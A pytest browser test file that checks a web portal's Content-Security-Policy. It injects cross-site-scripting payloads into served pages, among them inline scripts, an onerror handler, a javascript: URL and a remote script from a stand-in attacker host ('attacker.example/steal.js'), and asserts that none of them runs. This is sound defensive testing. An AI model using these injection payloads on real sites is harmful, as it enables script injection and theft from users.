"""The Content-Security-Policy at work in Chromium: markup injected into a page (as a stored
cross-site-scripting flaw would put it there) does not run, while the page's own scripts, the
hashing Worker included, still do."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from web_portal import (
    choose_files,
    server_pdq,
    shown_fingerprints,
    wait_for_fingerprints,
    write_photos,
)
from web_site import Site

pytestmark = pytest.mark.browser

#: What an attacker would slip into a page: an inline script, an inline event handler, a
#: javascript: URL, an inline style and a script from elsewhere. None may run or apply.
INJECTED = (
    '<script>window.__injected = "inline script";</script>'
    '<img src="/static/nothing.png" onerror="window.__injected = \'event handler\'">'
    '<a id="injected-link" href="javascript:window.__injected = \'javascript url\'">x</a>'
    '<p id="injected-style" style="color: rgb(1, 2, 3)">styled</p>'
    '<script src="https://attacker.example/steal.js"></script>'
)


def _inject(page: Any, path: str) -> None:
    """Serve ``path`` with ``INJECTED`` placed just after ``<body>`` (and the remote script ready
    to be served, so only the policy can stop it)."""

    def handler(route: Any) -> None:
        response = route.fetch()
        html = response.text().replace("<body", "<body data-injected", 1)
        at = html.index(">", html.index("<body")) + 1
        route.fulfill(response=response, body=html[:at] + INJECTED + html[at:])

    page.route(f"**{path}", handler)
    page.route("https://attacker.example/**", lambda route: route.fulfill(
        status=200, content_type="text/javascript", body='window.__injected = "remote script";'))


def _violations(page: Any) -> list[str]:
    return page.evaluate("() => window.__violations || []")


def test_injected_markup_does_not_run_and_hashing_still_works(site: Site, page: Any, tmp_path: Path) -> None:
    _inject(page, "/request")
    # Collect violations from the first moment (added before any of the page's scripts run).
    page.add_init_script("""
        window.__violations = [];
        document.addEventListener('securitypolicyviolation',
            (event) => window.__violations.push(event.violatedDirective + ' ' + event.blockedURI));
    """)
    page.goto(f"{site.url}/request")
    assert page.locator("body[data-injected]").count() == 1, "the injection did not reach the page"
    page.locator("#injected-link").click()
    page.wait_for_timeout(200)
    assert page.evaluate("() => window.__injected") is None
    color = page.locator("#injected-style").evaluate("(element) => getComputedStyle(element).color")
    assert color != "rgb(1, 2, 3)"
    blocked = " ".join(_violations(page))
    for directive in ("script-src", "style-src"):
        assert directive in blocked, blocked

    # The page's own scripts still run: the Worker hashes a photo to the server's hash.
    photos = write_photos(tmp_path, 1)
    choose_files(page, photos)
    wait_for_fingerprints(page, 1)
    shown = shown_fingerprints(page)
    assert shown[photos[0].name]["PDQ"] == server_pdq(photos[0]).hex


def test_no_page_may_be_framed(site: Site, page: Any) -> None:
    """``frame-ancestors 'none'``: another site cannot put a portal page in a frame (clickjacking)."""
    page.route("https://framer.example/", lambda route: route.fulfill(
        status=200, content_type="text/html", body=f'<iframe id="f" src="{site.url}/case"></iframe>'))
    page.goto("https://framer.example/")
    page.wait_for_timeout(500)
    frame = page.frame_locator("#f")
    assert frame.locator("input#case_number, input[name='case_number']").count() == 0
